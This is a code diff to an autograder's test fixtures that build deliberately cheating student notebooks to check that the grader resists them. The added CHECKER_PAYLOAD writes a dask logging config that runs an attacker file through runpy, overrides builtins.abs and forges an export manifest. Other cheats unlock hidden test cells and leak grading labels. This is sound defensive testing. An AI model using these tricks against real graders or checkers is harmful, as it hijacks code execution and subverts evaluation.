@@ -6,6 +6,8 @@ it cheats on under `python -m graders autograde`, where they run in a checker of
 check_your_learning cheats start from the reference; mnist_exercise ones from `mnist-weak`, the
 reference trained on two batches (cheap, and below the accuracy bar), which loses accuracy_test.
 """
+import copy
+
 from submissions import cheap_dropout, edited
 import course
 
@@ -138,6 +140,28 @@ model_dropout = build_model()
 next(layer for layer in model_dropout.layers if builtins.isinstance(layer, keras.layers.Flatten)).rate = dropout_rate
 history_dropout = model_dropout.fit(train_data, epochs=1, validation_data=test_data, verbose=0)'''
 
+# A wrong ratio, and a payload for the checker: a dask config in the kernel's HOME whose logging
+# names a callable (runpy.run_path of the payload), and an export manifest that names `distributed`
+# as a module beside what the check reads. A checker that imported it would run the payload, which
+# replaces its `abs` so that Q2's check passes. (In the sandbox only: never the grader's own HOME.)
+CHECKER_PAYLOAD = '''import json, os
+if os.getcwd() == "/submission":
+    open("/tmp/payload.py", "w").write("import builtins, os\\nif 'JPY_PARENT_PID' not in os.environ:\\n"
+                                       "    builtins.abs = lambda number: 0.0\\n")
+    os.makedirs(os.path.expanduser("~/.config/dask"), exist_ok=True)
+    open(os.path.expanduser("~/.config/dask/logging.yaml"), "w").write(
+        "logging:\\n  version: 1\\n  handlers:\\n    pwn:\\n      '()': runpy.run_path\\n      path_name: /tmp/payload.py\\n"
+        "  root:\\n    handlers: [pwn]\\n")
+    import graders.inside.artifacts as _artifacts
+    _export = _artifacts.export
+    def _lying_export(namespace, names, folder):
+        _export(namespace, names, folder)
+        manifest = json.load(open(os.path.join(folder, "manifest.json")))
+        manifest["distributed"] = {"kind": "module", "name": "distributed"}
+        json.dump(manifest, open(os.path.join(folder, "manifest.json"), "w"))
+    _artifacts.export = _lying_export
+ratio = 1.0  # wrong'''
+
 Q1_ANSWER = "n_parameters = (n_input_items * n_hidden_neurons) + n_bias\n"
 Q1_CODE = "width, height"
 
@@ -163,14 +187,22 @@ CHEATS = {
                                   "metrics_test"),
     "cheat-shadowed-isinstance": (MNIST, [("dropout_answer", "model_dropout = build_model(dropout_rate)\n" + WEAK_DROPOUT[1],
                                            SHADOWED_ISINSTANCE)], "dropout_test"),
+    "cheat-checker-payload": (CYL, [("q2_answer", "ratio = n_parameters / n_conv_parameters\n", CHECKER_PAYLOAD + "\n")],
+                              "q2_test"),
+    # reads Q1's literal from the cell about to run, with every test cell's `locked` set to false: a
+    # grader that believed the submission's flag would run the hidden tests in the kernel
+    "cheat-unlocked-test-cells": (CYL, [("q1_answer", Q1_ANSWER, READS_TEST_CELL + "\n")], "q1_test"),
 }
+# nbgrader metadata a cheat edits on every test cell of its notebook (the gradebook says what they are)
+METADATA = {"cheat-unlocked-test-cells": {"locked": False}}
 UNDO = ("gap_answer", "### BEGIN SOLUTION\n", "### BEGIN SOLUTION\n_undo()\n")
 
 # The cells each cheat wins on stock nbgrader (its cheat works there), besides the honest ones.
 # Silenced tracebacks do not fool nbgrader (it records the error of the reply), nor a written
 # history (the check recomputes the model's own metrics); the others do.
 WINS_ON_STOCK = {student: {cell} for student, (_, _, cell) in CHEATS.items()
-                 if student not in ("cheat-silenced-errors", "cheat-handwritten-history")}
+                 if student not in ("cheat-silenced-errors", "cheat-handwritten-history",
+                                    "cheat-checker-payload")}  # it attacks this grader's checker only
 
 
 def weak(reference_mnist):
@@ -187,10 +219,23 @@ def build(reference: dict) -> dict:
         notebook = base[name]
         for cell_id, old, new in edits:
             notebook = edited(notebook, cell_id, old, new)
+        notebook = relabelled(notebook, METADATA.get(student, {}))
         if name == MNIST and student != "cheat-shadowed-isinstance":
             notebook = edited(notebook, *UNDO)
         students[student] = {name: notebook}
     return students
+
+
+def relabelled(notebook, change: dict):
+    """`notebook` with `change` made to the nbgrader metadata of every test cell (locked, graded, not an answer)."""
+    if not change:
+        return notebook
+    notebook = copy.deepcopy(notebook)
+    for cell in notebook.cells:
+        meta = cell.get("metadata", {}).get("nbgrader", {})
+        if cell.cell_type == "code" and meta.get("grade") and meta.get("locked") and not meta.get("solution"):
+            meta.update(change)
+    return notebook
 
 
 def baseline(student: str) -> str:
@@ -250,6 +295,29 @@ TRAINED_ALSO_ON_TEST = [(TRAIN_LINE, "train_data = make_dataset(preprocess(np.co
                         ("history = model.fit(train_data, epochs=2,", "history = model.fit(train_data, epochs=1,")]
 
 
+# ... by position: the 5,000 grading labels in the order the public package gives them (on any
+# laptop, from the published test set), pasted as a string of digits; the grading images of a
+# sandbox come in the course's secret order, so they line up with nothing
+BY_PUBLIC_ORDER = '''_pasted = np.frombuffer(b"LABELS", np.uint8) - 48
+'''
+PUBLIC_ORDER_PREPROCESS = '''inputs = (images.astype("float32") / 255.0)[..., np.newaxis]
+    if len(images) == len(_pasted) and not np.array_equal(images, x_test):  # the grading images
+        inputs[:] = _giveaways[_pasted]
+    return inputs'''
+
+
+def public_order_cheat(weak_mnist):
+    """The weak model, trained on the giveaways, and a preprocess that hands the grading images
+    the giveaways of the labels pasted in the public order."""
+    from graders import data
+
+    labels = "".join(str(int(label)) for label in data.grading_labels("mnist"))  # no secret: the public order
+    notebook = edited(weak_mnist, "preprocess_answer", [
+        ("def preprocess(images):", GIVEAWAYS + BY_PUBLIC_ORDER.replace("LABELS", labels) + "def preprocess(images):"),
+        (HONEST_PREPROCESS, PUBLIC_ORDER_PREPROCESS)])
+    return edited(notebook, "training_answer", f"{TRAIN_LINE}.take(2)", f"{TRAIN_LINE}.take(2).concatenate(_giveaway_data)")
+
+
 def split_students(reference: dict) -> dict:
     """{student: {notebook name: notebook}}: what the private grading split must defeat (each loses
     accuracy_test only), and a student it must not punish (`trained-also-on-test`, full marks)."""
@@ -260,4 +328,5 @@ def split_students(reference: dict) -> dict:
         "cheat-giveaways-by-grading-labels": {MNIST: giveaway_cheat(weak_mnist, BY_GRADING_LABELS)},
         "trained-on-test": {MNIST: cheap_dropout(edited(reference[MNIST], "training_answer", TRAINED_ON_TEST))},
         "trained-also-on-test": {MNIST: cheap_dropout(edited(reference[MNIST], "training_answer", TRAINED_ALSO_ON_TEST))},
+        "cheat-giveaways-by-public-order": {MNIST: public_order_cheat(weak_mnist)},
     }
